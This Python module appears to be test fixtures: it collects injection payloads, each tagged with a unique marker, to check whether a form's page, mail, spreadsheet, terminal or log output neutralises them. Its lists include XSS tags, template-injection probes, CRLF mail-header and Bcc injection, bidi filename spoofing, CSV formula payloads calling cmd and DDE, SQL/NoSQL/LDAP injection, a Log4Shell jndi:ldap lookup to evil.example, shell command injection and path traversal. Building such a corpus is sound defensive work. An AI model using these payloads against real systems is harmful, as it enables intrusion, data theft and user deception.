"""Strings that people write into forms to make somebody else's page, mail, table, terminal or log do their bidding.

Each holds a marker of its own where it would act, so that a judge who parses an output sees what became of it, and
whose it is. Collected from what is known to have worked elsewhere (OWASP's cheat sheets, advisories of mail tools).
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from functools import cache, cached_property

MARK = "zq{:04d}x"
"""What a marker looks like; no word of ours holds one."""

UNSEEN_SORTS = frozenset({"Cc", "Cf", "Co", "Cs", "Cn"})
"""Categories of characters that nobody sees."""

EVIL = "http://evil.example/{m}"

HTML = (
    "<script>{m}()</script>", "<ScRiPt src=//evil.example/{m}></sCrIpT>", "<script/x>{m}</script>",
    "<img src=x onerror={m}()>", "<img/src=x/onerror={m}>", "<svg onload={m}()>", "<svg/onload={m}//",
    "<svg><script>{m}</script></svg>", "<svg><animate onbegin={m}() attributeName=x>", "<body onload={m}>",
    "<iframe src=javascript:{m}>", "<iframe srcdoc='<script>{m}</script>'>", "<object data={m}>", "<embed src={m}>",
    "<a href=javascript:{m}>x</a>", '<a href="http://evil.example/{m}">Click</a>', "<b class={m}>bold</b>",
    "<form action=//evil.example/{m}><input name={m}>", "<input autofocus onfocus={m}>", "<button formaction={m}>x",
    "<style>{m}{{}}</style>", "<style>@import '//evil.example/{m}';</style>", "<link rel=stylesheet href={m}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{m}'>", "<base href=//evil.example/{m}/>",
    "<details open ontoggle={m}>", "<video><source onerror={m}>", "<audio src=x onerror={m}>", "<marquee onstart={m}>",
    "<math><mi xlink:href=javascript:{m}>", "<template><script>{m}</script></template>", "<noscript><p title='{m}'>",
    "<textarea>{m}</textarea>", "</textarea><img src={m}>", "</title><script>{m}</script>", "</style><img src={m}>",
    "</script><svg onload={m}>", "--><script>{m}</script>", "<!--{m}-->", "<![CDATA[{m}]]>", "<?xml {m}?>",
    "<!DOCTYPE {m}>", "<{m}>", "</{m}>", "< script>{m}", "<<script>{m}//<</script>", "<scr<script>ipt>{m}",
    "<img src='1' onerror='{m}'", "<x onclick={m}>x", "<p style=background:url(//evil.example/{m})>",
    "<div style=x:expression({m})>", "<blink data-{m}>", "<table background={m}>", "<isindex action={m}>",
    "<xmp><img title='</xmp><img src={m}>'>", "<plaintext>{m}", "<select><option>{m}", "<frameset onload={m}>",
    "&lt;script&gt;{m}&lt;/script&gt;", "&#60;img src={m}&#62;", "&#x3c;svg onload={m}&#x3e;", "%3Cscript%3E{m}",
    "\\u003cscript\\u003e{m}", "\\x3cimg src={m}\\x3e", "\uff1cscript\uff1e{m}", "\u02c2img src={m}\u02c3",
    "+ADw-script+AD4-{m}", "<ruby {m}>", "<ins cite={m}>x</ins>", "<img srcset='{m} 1x'>", "<image href={m}>",
    "<use href=#{m}>", "<foreignObject onclick={m}>", "<slot name={m}>", "<dialog open id={m}>",
    "<picture><source srcset={m}>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="{m}', "' onmouseover='{m}", '"><img src={m}>', "'><img src={m}>", '" autofocus onfocus={m} x="',
    "' autofocus onfocus={m} x='", "x onclick={m}", "` onerror=`{m}", '"/><script>{m}</script>', "'/><svg/onload={m}>",
    '" style="x:{m}', '" href="javascript:{m}', '"><a href="//evil.example/{m}">x</a>', "'-{m}()-'", '"-{m}()-"',
    "&quot; onclick=&quot;{m}", "&#34; onclick=&#34;{m}", "&apos; onclick=&apos;{m}", '\\" onclick={m} \\"', '">{m}<"',
    "'>{m}<'", "x\u00a0onclick={m}", '"\u2003onclick="{m}',
)  # fmt: skip
LINKS = (
    "javascript:{m}()", "JaVaScRiPt:{m}", " javascript:{m}", "javascript&colon;{m}", "java&#9;script:{m}",
    "javascript://evil.example/%0a{m}", "data:text/html,<script>{m}</script>", "data:text/html;base64,{m}",
    "vbscript:{m}", "//evil.example/{m}", "\\\\evil.example\\{m}", "/\\evil.example/{m}", "https:evil.example/{m}",
    EVIL, "https://glass.example@evil.example/{m}", "https://glass.example.evil.example/{m}", "http://[::1]/{m}",
    "ftp://evil.example/{m}", "file:///etc/{m}", "mailto:victim@evil.example?bcc={m}", "tel:+1;ext={m}",
    "www.evil.example/{m}", "blob:{m}", "view-source:{m}", "feed:javascript:{m}",
)  # fmt: skip
TEMPLATES = (
    "{{{{7*7}}}}{m}", "{{{{ {m} }}}}", "{{% raw %}}{m}", "{{% include '{m}' %}}", "{{% import '{m}' as x %}}",
    "{{% if 1 %}}{m}{{% endif %}}", "{{% for x in ().__class__ %}}{m}{{% endfor %}}", "{{# {m} #}}",
    "{{{{ '{m}' | safe }}}}", "{{{{ ''.__class__.__mro__ }}}}{m}", "{{{{ lead.email }}}}{m}",
    "{{{{ config.items() }}}}{m}", "{{{{ self }}}}{m}", "{{{{ cycler.__init__.__globals__ }}}}{m}",
    "{{%- set x='{m}' -%}}", "{{{{{{ {m} }}}}}}", "${{7*7}}{m}", "${{{m}}}", "#{{7*7}}{m}", "<%= 7*7 %>{m}",
    "<% {m} %>", "[[${{7*7}}]]{m}", "*{{7*7}}{m}", "@(7*7){m}", "{{php}}{m}{{/php}}", "#set($x='{m}')", "%({m})s",
    "%s%s%n{m}", "{{0.__class__}}{m}", "{{m}}{m}", "$(touch {m})", "`touch {m}`", "; cat {m}", "| cat {m}",
    "&& cat {m}",
)  # fmt: skip
MARKDOWN = (
    "[x](http://evil.example/{m})", "![x](http://evil.example/{m})", "[{m}](http://evil.example)",
    "<http://evil.example/{m}>", "[x][{m}]", "[{m}]: http://evil.example", "![{m}][x]", "<a@evil.example?{m}>",
    "**{m}**", "__{m}__", "*{m}*", "_{m}_", "`{m}`", "``{m}``", "# {m}", "## {m} ##", "> {m}", "- {m}", "* {m}",
    "1. {m}", "+ {m} +", "--- {m}", "    {m}    x", "~~~{m}", "```{m}", "| {m} | x |", "[x]({m} 'title')",
    "[x](javascript:{m})", "[x](data:text/html,{m})", "[x](//evil.example/{m}){{: .button }}", "{m}{{: onclick=x }}",
    "{{: #{m} }}", "[^{m}]", "*[{m}]: x", "\\[x\\](http://{m})", "[![x](//evil.example/{m})](//evil.example)",
    "[x](<http://evil.example/{m}>)", '[x](http://evil.example/{m} "t")', "![](//evil.example/{m}.gif)", "<br>**{m}",
    "===={m}", "[click](mailto:x@evil.example?subject={m})", "&nbsp;{m}", "\\<{m}\\>",
)  # fmt: skip
HEADERS = (
    "=?utf-8?q?=0D=0AX-{m}:_1?=", "=?utf-8?b?DQpCY2M6IHg=?={m}", "=?utf-8?q?{m}?=", "=?us-ascii?q?=0ABcc=3A_{m}?=",
    "=?{m}", "{m}, victim@evil.example", "<victim@evil.example> {m}", '"{m}" <victim@evil.example>',
    "a@evil.example,{m}", "{m}; bcc:x", "%0d%0aX-{m}: 1", "\\r\\nX-{m}: 1", "%E5%98%8A%E5%98%8DX-{m}:1",
    "\u560a\u560dX-{m}:1", "Bcc: {m}", "X-{m}: 1", "({m})", "undisclosed:{m};", '\\"{m}', "{m}\\", '"{m}',
    "=?iso-8859-1?Q?=22=3E=3C{m}?=", ".{m}", "..{m}", "From {m}", "--{m}",
)  # fmt: skip
UNSEEN = (
    "{m}\u200bx", "x\u200c{m}", "\u200dx{m}", "\u2060{m}", "\ufeff{m}", "{m}\u00ad-", "a\u0300\u0301\u0302{m}",
    "{m}\u034f", "\u180e{m}", "\u3164{m}", "\u115f{m}", "{m}\ufe0f", "\U000e0041{m}", "\u061c{m}", "\u200e{m}",
    "\u200f{m}", "\ue000{m}\ue001", "\ue0001:0\ue001{m}", "\uffff{m}", "\u0430\u0435{m}", "\u05d0\u05d1 {m}",
    "\u0628\u0633 {m}",
)  # fmt: skip
TURNED = (*(f"{turn}{{m}}cod.exe" for turn in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"), "{m}\u202c", "\u2069{m}")
FORMULAS = (
    "={m}+1", "=1+1+{m}", "+{m}", "-{m}", "@{m}", "@SUM(1+1)*{m}", "=cmd|' /C {m}'!A0", "+cmd|' /C {m}'!A0",
    "-2+3+cmd|'{m}'!A0", '=HYPERLINK("http://evil.example/{m}","x")', '=IMPORTXML("{m}")', '=WEBSERVICE("{m}")',
    '=DDE("cmd","{m}")', '=IMAGE("//evil.example/{m}")', "\uff1d{m}", "\uff0b{m}", "\uff0d{m}", "\uff20{m}",
    "\u200b={m}", "\ufeff={m}", "\u00a0={m}", "\u3000={m}", "\u2060+{m}", "'={m}", '"={m}', '";={m}', '",={m}',
    ";={m}", ",={m}", "%={m}", "\u00ad={m}", "\u00a0\u200b@{m}", "\uff1d{m}()", "-{m}()", "--{m}",
)  # fmt: skip
QUERIES = (
    "' OR '{m}'='{m}", "'; DROP TABLE leads; -- {m}", '" OR ""="{m}', "1; SELECT {m}", "') UNION SELECT '{m}' --",
    '{{"$gt": "{m}"}}', '{{"$where": "{m}"}}', "[$ne]={m}", "'||'{m}", "attribute_exists({m})", "#pk = :{m}",
    "{m}#TOUCH", "LEAD#{m}", "%{m}%", "_{m}_%", "*)(uid=*))(|(uid={m}", "' and sleep(5) -- {m}", "{m}'--", "\\'; {m}",
    "$ne:{m}",
)  # fmt: skip
LOGS = (
    "${{jndi:ldap://evil.example/{m}}}", '\\n{{"level":"ERROR","message":"{m}"}}', "\\u001b[31m{m}",
    "\\x1b]0;{m}\\x07", "%1b[2J{m}", "[ERROR] {m}", "2026-01-05 touch.sent lead={m}", '"}},{{"message":"{m}"}}',
    '","lead":"{m}',
)  # fmt: skip
SCRIPTS = (
    "</script><script>{m}</script>", "\\u003c/script\\u003e{m}", '"}};{m}//', "'}};{m}//", '\\";{m}//', "*/{m}/*",
    "//{m}", "${{{m}}}`", "__proto__.{m}", "constructor[{m}]", "]]>{m}", "<!--<script>{m}", '"}}]}},"{m}":1',
    '{{"{m}":1}}', '["{m}"]', "null,{m}", "{m}\\u2028x", "undefined{m}", "NaN{m}", 'true,"{m}":true',
)  # fmt: skip
PATHS = (
    "../../{m}", "..%2f..%2f{m}", "/etc/{m}", "C:\\{m}", "%00{m}", "{m}%00.png", "{m}/../../x", "~/{m}", "{m}.lnk",
    "con.{m}",
)  # fmt: skip
BROKEN = (
    "{m}\r\nBcc: victim@evil.example", "{m}\nX-{m}: 1", "{m}\rX-{m}: 1", "x\r\n\r\n<script>{m}</script>", "{m}\x00x",
    "\x00{m}", "\x1b[31m{m}\x1b[0m", "\x1b]0;{m}\x07", "\x1b]8;;http://evil.example\x07{m}\x1b]8;;\x07", "\x9b31m{m}",
    "{m}\x08\x08\x08x", "x\u2028{m}", "x\u2029{m}", "x\x0b{m}", "x\x0c{m}", "x\x85{m}", "{m}\x7fx", "\t={m}\tx",
    "\r={m}\rx", "a\n={m}", '{m}\n{{"level":"ERROR"}}', "{m}\r\n.\r\nMAIL FROM:<x@evil.example>",
)  # fmt: skip

GROUPS: Mapping[str, Sequence[str]] = {
    "HTML": HTML, "attributes": ATTRIBUTES, "links": LINKS, "templates": TEMPLATES, "Markdown": MARKDOWN,
    "headers": HEADERS, "unseen": UNSEEN, "turned": TURNED, "formulas": FORMULAS, "queries": QUERIES, "logs": LOGS,
    "scripts": SCRIPTS, "paths": PATHS, "broken": BROKEN,
}  # fmt: skip

LOCAL_PARTS = (
    "=cmd|'/C'!{m}", "+{m}", "-{m}", "'={m}", "{{{{7*7}}}}{m}", "{{{m}}}", "{m}|x", "`{m}`", "*{m}*", "_{m}_",
    "**{m}**", "#{m}", "{m}'--", "'or'{m}'='", "${{{m}}}", "%0d%0a{m}", "{m}%00", "/{m}/", "{m}?bcc=x", "{m}&x",
    "!{m}", "~{m}", "^{m}", "{{%{m}%}}",
)  # fmt: skip
"""What may stand before the @ of an address that is one by its syntax."""


@dataclass(frozen=True)
class Injection:
    """One string, and the marker that it alone holds."""

    group: str
    text: str
    marker: str

    @cached_property
    def seen(self) -> tuple[str, ...]:
        """The words that hold the marker, without what is invisible: one of them has to stand there in the end."""
        return tuple(word.lower() for word in visible(self.text).split() if self.marker in word)


def visible(text: str) -> str:
    """As a reader sees it: without what is invisible."""
    unseen = {char for char in set(text) if not char.isspace() and unicodedata.category(char) in UNSEEN_SORTS}
    return text.translate(dict.fromkeys(map(ord, unseen)))


@cache
def injections(*, broken: bool = False) -> tuple[Injection, ...]:
    """All strings that a form takes, or all that it has to refuse or to mend."""
    wanted = {"broken"} if broken else set(GROUPS) - {"broken"}
    return tuple(each for each in _all() if each.group in wanted)


def of_group(name: str) -> tuple[Injection, ...]:
    return tuple(each for each in _all() if each.group == name)


def local_parts() -> Iterator[Injection]:
    """Addresses, each another one."""
    for number, text in enumerate(LOCAL_PARTS, start=9000):
        marker = MARK.format(number)
        yield Injection("addresses", f"{text.format(m=marker)}@firm{number}.example", marker)


@cache
def by_marker() -> Mapping[str, Injection]:
    return {each.marker: each for each in (*_all(), *local_parts())}


def packed(strings: Sequence[Injection], *, most: int, between: str, times: int) -> list[list[Injection]]:
    """So many bundles of strings, each of `most` characters at most; together they hold all that fit.

    The first of each are formulas, as long as there are: these act at the beginning alone.
    """
    order = sorted(strings, key=lambda each: each.group != "formulas")
    bundles = [[each] for each in order[:times]]
    rest = [each for each in strings if not any(each in bundle for bundle in bundles)]
    for each in sorted(rest, key=lambda each: -len(each.text)):
        bundle = min(bundles, key=lambda bundle: len(joined(bundle, between)))
        if len(joined(bundle, between)) + len(between) + len(each.text) <= most:
            bundle.append(each)
    return bundles


def joined(bundle: Sequence[Injection], between: str) -> str:
    return between.join(each.text for each in bundle)


@cache
def _all() -> tuple[Injection, ...]:
    found = []
    for group, texts in GROUPS.items():
        for text in dict.fromkeys(texts):
            marker = MARK.format(len(found))
            found.append(Injection(group, text.format(m=marker), marker))
    return tuple(found)
